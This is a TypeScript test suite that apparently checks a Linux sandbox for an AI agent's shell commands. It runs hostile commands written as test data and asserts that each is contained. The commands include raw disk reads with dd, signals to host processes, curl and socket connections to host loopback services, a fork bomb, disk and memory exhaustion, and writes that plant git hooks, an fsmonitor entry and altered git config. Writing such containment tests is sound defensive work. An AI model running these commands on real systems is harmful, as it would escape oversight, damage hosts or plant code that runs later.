    script: () => `for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda; do dd if=$d of=disk.bin bs=512 count=1 2>/dev/null && break; done; ls /dev > devs.txt`,
    verdict: (f) => {
      const disk = join(f.ws, "disk.bin");
      assert.ok(!existsSync(disk) || statSync(disk).size === 0, "no raw disk data");
      assert.doesNotMatch(read(join(f.ws, "devs.txt")) ?? "", /^(vda|sda|nvme0n1|xvda)$/m);
    },
  },
  {
    name: "host processes cannot be seen or signalled",
    script: () => `kill -TERM ${hostSleeper?.pid ?? 0} 2>/dev/null; ls /proc | grep -c '^[0-9]' > procs.txt`,
    verdict: async (f) => {
      await new Promise((r) => setTimeout(r, 50));
      assert.equal(hostSleeper?.exitCode, null, "the host process still runs");
      assert.equal(hostSleeper?.signalCode, null);
      assert.ok(Number(read(join(f.ws, "procs.txt"))) < 10, "only the sandbox's own processes are visible");
    },
  },
];

/** Network: each runs alone, so a connection the host sees belongs to it. */
const NETWORK: Check[] = [
  {
    name: "curl to the host's 127.0.0.1",
    script: () => `curl -s -m 2 http://127.0.0.1:${hostile.port}/curl-ip > /dev/null`,
    verdict: () => assert.equal(hostile.hits.length, 0),
  },
  {
    name: "curl to localhost",
    script: () => `curl -s -m 2 http://localhost:${hostile.port}/curl-name > /dev/null`,
    verdict: () => assert.equal(hostile.hits.length, 0),
  },
  {
    name: "curl --noproxy to localhost",
    script: () => `curl -s -m 2 --noproxy '*' http://localhost:${hostile.port}/curl-noproxy > /dev/null`,
    verdict: () => assert.equal(hostile.hits.length, 0),
  },
  {
    name: "node fetch and net.connect to the host",
    script: () =>
      `${NODE} -e 'fetch("http://127.0.0.1:${hostile.port}/fetch").catch(()=>{});const s=require("net").connect(${hostile.port},"127.0.0.1");s.on("error",()=>{});setTimeout(()=>process.exit(0),500)'`,
    verdict: () => assert.equal(hostile.hits.length + hostile.tcp, 0),
  },
  { name: "DNS lookup", script: () => "getent hosts registry.npmjs.org > dns.txt", verdict: (f) => assert.equal(read(join(f.ws, "dns.txt")) ?? "", "") },
  // Unlisted destinations only: the proxy refuses them before any lookup, so nothing leaves the machine.
  {
    name: "curl to an unlisted host",
    script: () => "curl -s -m 3 -o /dev/null -w '%{http_code}' https://example.com/ > code.txt",
    verdict: (f) => assert.equal(read(join(f.ws, "code.txt")), "000"),
  },
  {
    name: "node fetch to an unlisted host",
    script: () =>
      `${NODE} -e 'fetch("https://example.com/").then(r=>require("fs").writeFileSync("fetch.txt",String(r.status))).catch(()=>require("fs").writeFileSync("fetch.txt","failed"))'`,
    verdict: (f) => assert.equal(read(join(f.ws, "fetch.txt")), "failed"),
  },
  {
    name: "curl to a listed registry past the proxy (no route without it)",
    script: () => "curl -s -m 3 --noproxy '*' -o /dev/null -w '%{http_code}' https://registry.npmjs.org/ > code.txt",
    verdict: (f) => assert.equal(read(join(f.ws, "code.txt")), "000"),
  },
  {
    name: "the proxy to the host's loopback server",
    script: () => `curl -s -m 3 --noproxy '' -x "$HTTP_PROXY" http://127.0.0.1:${hostile.port}/via-proxy > /dev/null`,
    verdict: () => assert.equal(hostile.hits.length, 0),
  },
  {
    name: "the host's pathname unix socket",
    script: () =>
      `${PY} -c 'import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect("${hostile.unixPath}")' 2>/dev/null; ${NODE} -e 'require("net").connect("${hostile.unixPath}").on("error",()=>{})'`,
    verdict: () => assert.equal(hostile.unix, 0),
  },
  {
    name: "the host's abstract unix socket",
    script: () => `${PY} -c 'import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect("\\0${hostile.abstractName}")' 2>/dev/null; true`,
    verdict: () => assert.equal(hostile.abstract, 0),
  },
];

let swappiness = "";
let printkTime = "";

function listenTcp(): Promise<void> {
  return new Promise((resolve) => {
    const http = createHttpServer((req, res) => {
      hostile.hits.push(req.url ?? "");
      res.end("host");
    });
    http.on("connection", () => hostile.tcp++);
    http.listen(0, "127.0.0.1", () => {
      hostile.port = (http.address() as { port: number }).port;
      servers.push(http as unknown as Server);
      resolve();
    });
  });
}

function listenUnix(path: string, count: () => void): Promise<void> {
  return new Promise((resolve, reject) => {
    const s = createNetServer((c) => {
      count();
      c.destroy();
    });
    s.once("error", reject);
    s.listen(path, () => {
      servers.push(s);
      resolve();
    });
  });
}

before(async () => {
  scratch = realpathSync(mkdtempSync(join(tmpdir(), "pi-auto-mode-hostile-")));
  driver = createLinuxDriver({ runDir: join(scratch, "run"), limits: { processes: 2048, dataBytes: 8 * 2 ** 30, shmBytes: 2 ** 26 } });
  probe = await probeDriver(driver);
  if (!probe.ok) {
    process.stderr.write(`# sandbox unavailable, hostile checks skip: ${probe.reason}\n`);
    return;
  }
  controller = createController({ platform: "linux", driver, probe: async () => probe });
  await controller.ready();
  template = join(scratch, "template");
  buildTemplate(template);
  templateWork = work({ ws: join(template, "ws") } as Fixture);
  await listenTcp();
  hostile.unixPath = join(scratch, "host.sock");
  await listenUnix(hostile.unixPath, () => hostile.unix++);
  hostile.abstractName = `pi-auto-mode-hostile-${process.pid}`;
  await listenUnix(`\0${hostile.abstractName}`, () => hostile.abstract++);
  hostSleeper = spawn("sleep", ["120"], { stdio: "ignore" });
  swappiness = readFileSync("/proc/sys/vm/swappiness", "utf8").trim();
  printkTime = existsSync("/sys/module/printk/parameters/time") ? readFileSync("/sys/module/printk/parameters/time", "utf8").trim() : "";
});

after(async () => {
  hostSleeper?.kill();
  for (const s of servers) s.close();
  if (controller) await controller.drain();
  // Only there if a check failed; as an unprivileged user /etc and /root cannot even be looked at.
  for (const p of [`/etc/${hostTmp}`, `/etc/${hostTmp}-sym`, `/etc/${hostTmp}-node`, `/root/${hostTmp}`, `/dev/shm/${hostTmp}`, `/tmp/${hostTmp}`]) {
    try {
      rmSync(p, { force: true });
    } catch {
      // not ours to look at
    }
  }
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

function register(checks: readonly Check[], expect: "ok" | "deny") {
  for (const c of checks) {
    test(`${expect}: ${c.name}`, { skip: c.rootOnly && !IS_ROOT ? "needs root" : undefined }, async (t) => {
      const reason = skip();
      if (reason) return t.skip(reason);
      const f = fixture();
      const r = await runIn(f, c.script(f));
      assert.ok(r.kind === "exited", `the sandbox ran the command (${r.kind}): ${r.out}`);
      if (r.effects) t.diagnostic(r.effects.replace(/\n/g, " | "));
      try {
        await c.verdict(f, r);
      } catch (e) {
        (e as Error).message += `\noutput: ${r.out.slice(-500)}\neffects: ${r.effects}`;
        throw e;
      }
    });
  }
}

describe(`hostile suite as ${WHO}: what must keep working`, { concurrency: 4 }, () => register(COMPAT, "ok"));
describe(`hostile suite as ${WHO}: what must have no effect`, { concurrency: 4 }, () => register(DENY, "deny"));
describe(`hostile suite as ${WHO}: no network`, { concurrency: 1 }, () => register(NETWORK, "deny"));
if (WORKSPACE === "staged") {
  describe(`hostile suite as ${WHO}: work survives every way of destroying it`, { concurrency: 4 }, () => register(DESTROY, "deny"));
  describe(`hostile suite as ${WHO}: ordinary work lands`, { concurrency: 4 }, () => register(LANDS, "ok"));
}

describe("limits and concurrency", () => {
  test("a command's protection holds while a concurrent command ends and releases its placeholders", async (t) => {
    const reason = skip();
    if (reason) return t.skip(reason);
    const f = fixture();
    const slow = runIn(f, "sleep 0.6; mkdir -p .codex/x; echo x > .codex/y; echo x > .husky/pre-commit");
    await new Promise((r) => setTimeout(r, 150));
    await runIn(f, "true");
    driver.settle();
    await slow;
    assert.equal(existsSync(join(f.ws, ".codex", "x")), false);
    assert.equal(existsSync(join(f.ws, ".codex", "y")), false);
    assert.equal(existsSync(join(f.ws, ".husky", "pre-commit")), false);
  });

  test("a later command holds placeholders it found: an earlier command's cleanup cannot open them under it", async (t) => {
    const reason = skip();
    if (reason) return t.skip(reason);
    const f = fixture();
    const first = runIn(f, "sleep 0.3");
    await new Promise((r) => setTimeout(r, 120));
    const second = runIn(f, "sleep 0.8; mkdir -p .codex/x; echo x > .codex/y; echo x > .husky/pre-commit");
    await first;
    driver.settle();
    await second;
    assert.equal(existsSync(join(f.ws, ".codex", "x")), false);
    assert.equal(existsSync(join(f.ws, ".codex", "y")), false);
    assert.equal(existsSync(join(f.ws, ".husky", "pre-commit")), false);
    driver.settle();
    assert.equal(existsSync(join(f.ws, ".codex")), false, "and the last holder removed them");
  });

  // The probe's staged run used to launch the next command's holder ahead, into the probe's own
  // scratch folder: the holder lived on after the probe, and its overlay's work dir (mode 0) made
  // the probe's clean-up fail as an unprivileged user (EACCES), so the probe itself failed.
  test("the probe, run again and again, passes and leaves nothing behind: no scratch folder, no holder launched ahead", async (t) => {
    const reason = skip();
    if (reason) return t.skip(reason);
    const tmp = mkdtempSync(join(scratch, "probe-tmp-"));
    const saved = process.env.TMPDIR;
    const d = createLinuxDriver({ runDir: join(scratch, "run-probe-again"), lingerMs: 0, spawner: false });
    process.env.TMPDIR = tmp;
    try {
      for (let i = 0; i < 6; i++) {
        const p = await probeDriver(d);
        assert.equal(p.ok, true, `probe ${i}: ${p.ok ? "" : p.reason}`);
        assert.deepEqual(readdirSync(tmp), [], `probe ${i} left its scratch folder`);
        // Being torn down: exiting (D, Z, X, or the kernel's PF_EXITING flag) or with a SIGKILL
        // pending that a loaded machine has not delivered yet.
        const goingAway = (pid: string) => {
          try {
            const fields = readFileSync(`/proc/${pid}/stat`, "utf8")
              .replace(/^.*\) /s, "")
              .split(" ");
            const status = readFileSync(`/proc/${pid}/status`, "utf8");
            const pending = [...status.matchAll(/^(?:SigPnd|ShdPnd):\s*([0-9a-f]+)$/gm)].some((m) => (BigInt(`0x${m[1]}`) & (1n << 8n)) !== 0n);
            return /^[DZX]$/.test(fields[0] ?? "") || (Number(fields[6]) & 0x4) !== 0 || pending;
          } catch {
            return true;
          }
        };
        // A cancelled holder may still be tearing down its mount namespace for a moment.
        const named = () =>
          readdirSync("/proc")
            .filter((n) => /^\d+$/.test(n))
            .flatMap((n) => {
              try {
                const cmd = readFileSync(`/proc/${n}/cmdline`, "utf8");
                return cmd.includes(tmp) ? [`${n}: ${cmd.replaceAll("\0", " ").slice(0, 200)}`] : [];
              } catch {
                return [];
              }
            });
        const live = named().filter((l) => !goingAway(l.split(":")[0]!));
        assert.deepEqual(live, [], `probe ${i} left a live holder (not one being torn down)`);
        let left = named();
        for (let waited = 0; left.length > 0 && waited < 3000; waited += 50) {
          await new Promise((r) => setTimeout(r, 50));
          left = named();
        }
        assert.deepEqual(left, [], `probe ${i} left processes that name its scratch folder`);
      }
    } finally {
      if (saved === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = saved;
      await d.shutdown();
    }
  });

  // Through the spawner helper (the agent) and from the process itself (the CLI's one-shot runs,
  // where each sandbox joins the cgroup before it starts).
  for (const spawner of [true, false]) {
    test(`a process bomb stops at the process limit (${spawner ? "through the spawner" : "one-shot, no spawner"})`, async (t) => {
      const reason = skip();
      if (reason) return t.skip(reason);
      const limited = createLinuxDriver({
        runDir: join(scratch, `run-limited-${spawner}`),
        limits: { processes: 40, dataBytes: 2 * 2 ** 30, shmBytes: 2 ** 26 },
        lingerMs: 0,
        spawner,
      });
      const c = createController({ platform: "linux", driver: limited });
      const p = await c.ready();
      assert.equal(p.backend, "sandboxed", p.reason);
      const f = fixture();
      // Every child that really started leaves a file, so the host can count them.
      const script = `${PY} -c 'import os,time
for i in range(120):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        open("kid%d" % i, "w").close(); time.sleep(1.5); os._exit(0)
time.sleep(0.5)'`;
      const r = await runIn(f, script, { controller: c });
      // Read before the drain, which removes the cgroup.
      const facts = limited.facts().join("; ");
      assert.deepEqual(await c.drain(), { ok: true }, "the limited sandbox cleans up after itself");
      assert.equal(r.kind, "exited");
      const kids = readdirSync(f.ws).filter((n) => n.startsWith("kid")).length;
      t.diagnostic(`${kids} of 120 children started under a limit of 40 (${facts})`);
      assert.ok(kids > 0 && kids < 40, `${kids} children started`);
    });
  }

  test("staged: a commit in a linked worktree (its git dir outside the workspace) lands; the main repository's config and hooks do not change", async (t) => {
    const reason = skip();
    if (reason || WORKSPACE !== "staged") return t.skip(reason || "staging only");
    const f = fixture();
    const wt = join(f.root, "wt");
    git(f.ws, "worktree", "add", "-q", wt, "-b", "topic");
    const places = buildPlaces({ workspace: wt, tmpRoot: f.tmp, home: f.home, agentDir: f.agentDir, selfPaths: [] });
    const command =
      'echo x > wt.txt && git add wt.txt && git -c user.email=a@b -c user.name=n commit -q -m in-worktree; echo evil >> "$(git rev-parse --git-common-dir)/config"; true';
    const r = await controller.run(
      {
        command,
        cwd: wt,
        scope: { places, protectedGlobs: [] },
        env: { ...process.env, HOME: f.home },
        shell: "/bin/bash",
        workspace: "staged",
        settle: (end) => settleEffects({ ...end, places, protectedGlobs: [], command, store: effectStore(f.agentDir), bounds: DEFAULT_UNDO_BOUNDS }),
      },
      { onData: () => {} },
    );
    assert.equal(r.kind, "exited");
    assert.match(git(wt, "log", "--format=%s", "-1"), /in-worktree/);
    assert.match(git(f.ws, "log", "--format=%s", "-1", "topic"), /in-worktree/, "the branch moved in the shared repository");
    assert.equal(read(join(f.ws, ".git", "config")), templateWork["git config"]);
    assert.equal(read(join(f.ws, "README.md")), templateWork["README.md"], "the main work tree is untouched");
  });

  test("the reviewed-git fallback (nothing staged): git writes .git in place, never its config or hooks", async (t) => {
    const reason = skip();
    if (reason) return t.skip(reason);
    const bounded = createLinuxDriver({ runDir: join(scratch, "run-git"), lingerMs: 0 });
    const c = createController({ platform: "linux", driver: bounded });
    await c.ready();
    const f = fixture();
    // Missing code-running parts must not be creatable either.
    rmSync(join(f.ws, ".git", "info"), { recursive: true, force: true });
    rmSync(join(f.ws, ".git", "hooks"), { recursive: true, force: true });
    const r = await runIn(
      f,
      "git add notes.txt && git -c user.email=a@b -c user.name=n commit -q -m reviewed; echo /tmp/evil > .git/commondir; echo /tmp > .git/objects/info/alternates; mkdir -p .git/hooks; echo '[core] fsmonitor = evil' >> .git/config; echo hook > .git/hooks/pre-commit; mkdir -p .git/info; echo '* filter=x' > .git/info/attributes; true",
      { workspace: "direct-git", controller: c },
    );
    assert.equal(r.kind, "exited");
    assert.match(git(f.ws, "log", "--format=%s", "-1"), /reviewed/, r.out);
    assert.equal(read(join(f.ws, ".git", "config")), templateWork["git config"]);
    assert.equal(existsSync(join(f.ws, ".git", "hooks", "pre-commit")), false);
    assert.equal(existsSync(join(f.ws, ".git", "info", "attributes")), false);
    assert.equal(existsSync(join(f.ws, ".git", "commondir")), false, "a created commondir is removed after the command");
    assert.equal(existsSync(join(f.ws, ".git", "objects", "info", "alternates")), false);
    bounded.settle();
    assert.equal(existsSync(join(f.ws, ".git", "hooks")), false, "the placeholders went with the command");
    assert.deepEqual(await c.drain(), { ok: true });
  });

  test("a command filling the disk is stopped inside the sandbox, staged or in the temporary root", async (t) => {
    const reason = skip();
    if (reason) return t.skip(reason);
    const bounded = createLinuxDriver({
      runDir: join(scratch, "run-disk"),
      disk: { reserveBytes: 0, maxWriteBytes: 32 * 2 ** 20, intervalMs: 20 },
      lingerMs: 0,
    });
    const c = createController({ platform: "linux", driver: bounded });
    await c.ready();
    for (const where of ["big.bin", '"$TMPDIR/big.bin"']) {
      const f = fixture();
      // 2 GiB, buffered: the file system counts blocks reserved for dirty pages as used.
      const r = await runIn(f, `head -c 2147483648 /dev/zero > ${where}; echo finished > after.txt`, { controller: c });
      assert.equal(r.kind, "stopped", `${where}: ${r.kind} ${r.out}`);
      assert.equal(existsSync(join(f.ws, "after.txt")), false);
      if (WORKSPACE === "staged") assert.equal(existsSync(join(f.ws, "big.bin")), false, "nothing it staged is applied");
      // Written in place (the temporary root always is): stopped long before 2 GiB.
      for (const big of [join(f.tmp, "big.bin"), ...(WORKSPACE === "direct" ? [join(f.ws, "big.bin")] : [])])
        if (existsSync(big)) assert.ok(statSync(big).size < 1024 * 2 ** 20, `stopped early: ${statSync(big).size} bytes in ${big}`);
    }
    assert.deepEqual(await c.drain(), { ok: true });
  });

  test("a runaway allocation stops at the memory limit", async (t) => {
    const reason = skip();
    if (reason) return t.skip(reason);
    const limited = createLinuxDriver({
      runDir: join(scratch, "run-mem"),
      limits: { processes: 512, dataBytes: 256 * 2 ** 20, shmBytes: 2 ** 26 },
      lingerMs: 0,
    });
    const c = createController({ platform: "linux", driver: limited });
    await c.ready();
    const f = fixture();
    const r = await runIn(f, `${PY} -c 'b = bytearray(768 * 1024 * 1024); open("allocated.txt", "w").write("yes")'`, { controller: c });
    assert.deepEqual(await c.drain(), { ok: true }, "the limited sandbox cleans up after itself");
    assert.equal(r.kind, "exited");
    assert.equal(existsSync(join(f.ws, "allocated.txt")), false);
  });
});

// The other passes, from the root run: staged as an unprivileged user, and the in-place fallback
// (no copy-on-write mount) as root and as that user. Each is a fresh test run of this file.
const PASSES = [
  { who: "nobody (uid 65534)", uid: 65534, workspace: "staged" },
  { who: "root", uid: 0, workspace: "direct" },
  { who: "nobody (uid 65534)", uid: 65534, workspace: "direct" },
] as const;
describe("the hostile suite's other passes", () => {
  const enabled = IS_ROOT && !process.env[CHILD_FLAG] && existsSync("/usr/bin/setpriv");
  for (const pass of PASSES) {
    test(`every check passes as ${pass.who} over a ${pass.workspace} workspace`, {
      skip: enabled ? undefined : IS_ROOT ? "setpriv missing or already a child pass" : "only from a root run",
    }, async (t) => {
      const reason = skip();
      if (reason) return t.skip(reason);
      const home = mkdtempSync(join(tmpdir(), "pi-auto-mode-pass-"));
      chownSync(home, pass.uid, pass.uid);
      // A fresh test run, not a subprocess reporting to ours (node:test marks those in the environment).
      const env: NodeJS.ProcessEnv = { ...process.env, HOME: home, [CHILD_FLAG]: "1", [WORKSPACE_FLAG]: pass.workspace, TMPDIR: "/tmp" };
      delete env.NODE_TEST_CONTEXT;
      const r = spawnSync(
        "/usr/bin/setpriv",
        [
          `--reuid=${pass.uid}`,
          `--regid=${pass.uid}`,
          "--clear-groups",
          ...(pass.uid === 0 ? [] : ["--inh-caps=-all"]),
          NODE,
          "--test",
          "--test-reporter=tap",
          HERE,
        ],
        { cwd: REPO, encoding: "utf8", env, timeout: 240_000 },
      );
      rmSync(home, { recursive: true, force: true });
      const summary = (r.stdout ?? "").split("\n").filter((l) => /^# (tests|pass|fail|skipped)/.test(l));
      for (const l of summary) t.diagnostic(`as ${pass.who}, ${pass.workspace}: ${l.slice(2)}`);
      const failures = (r.stdout ?? "").split("\n").filter((l) => /^\s*not ok/.test(l));
      assert.equal(r.status, 0, `the pass failed:\n${failures.join("\n")}\n${(r.stderr ?? "").slice(-2000)}`);
      assert.ok(
        summary.some((l) => /^# pass [1-9]/.test(l)),
        "the pass ran checks",
      );
      assert.ok(!summary.some((l) => /^# skipped [1-9]\d/.test(l)), "it did not skip the suite");
    });
  }
});
